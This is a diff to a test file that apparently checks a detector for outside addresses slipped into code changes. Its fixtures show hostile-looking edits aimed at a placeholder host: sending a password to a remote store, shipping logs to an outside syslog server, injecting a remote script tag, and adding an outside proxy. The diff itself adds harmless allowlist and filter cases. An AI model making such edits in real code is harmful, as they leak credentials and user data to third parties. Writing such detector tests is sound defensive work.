@@ -25,6 +25,7 @@ def role(path: str, now: str, was: str | None = None) -> Role:
         ("a.py", "def auth(self):\n    self.send()\n", f"def auth(self):\n    Connection(host='{HOST}', db=0).set(self.password)\n"),
         ("a.py", "def emit(x):\n    pass\n", f"import logging.handlers\ndef emit(x):\n    logging.handlers.SysLogHandler(address=('{HOST}', 514)).emit(x)\n"),
         ("a.js", "const options = { dsn: process.env.DSN };\n", f"const options = {{ dsn: process.env.DSN || 'https://key@{HOST}/1' }};\n"),
+        ("a.js", "const own = (url) => false;\n", f"const own = (url) => ['{AT}'].includes(url);\n"),
         ("a.js", "const POLICY = { script: ['self'] };\n", f"const POLICY = {{ script: ['self', 'https://{HOST}'] }};\n"),
         ("a.py", "def html(out):\n    out.append('<p>')\n", f"def html(out):\n    out.append('<script src=\"https://{HOST}/t.js\" async></script>')\n"),
         ("a.rs", "fn build() { proxies.push(system()); }\n", f'fn build() {{ proxies.push(Proxy::https("http://{HOST}:3128")); }}\n'),
@@ -52,6 +53,8 @@ def test_an_address_in_code_that_did_without_is_one_of_weight(path: str, was: st
         ("a.d.ts", f"export const at = '{AT}';\n"),
         ("thing/testing.py", f"def token():\n    return sign('{AT}')\n"),
         ("README.md", f"fetch('{AT}')\n"),
+        ("a.py", f"def f(lines):\n    return [line for line in lines if '{AT}' not in line]\n"),
+        ("a.js", f"const own = (url) => url.startsWith('{AT}') || url === '{AT}';\n"),
     ],
 )
 def test_a_link_that_somebody_is_shown_is_none(path: str, now: str) -> None:
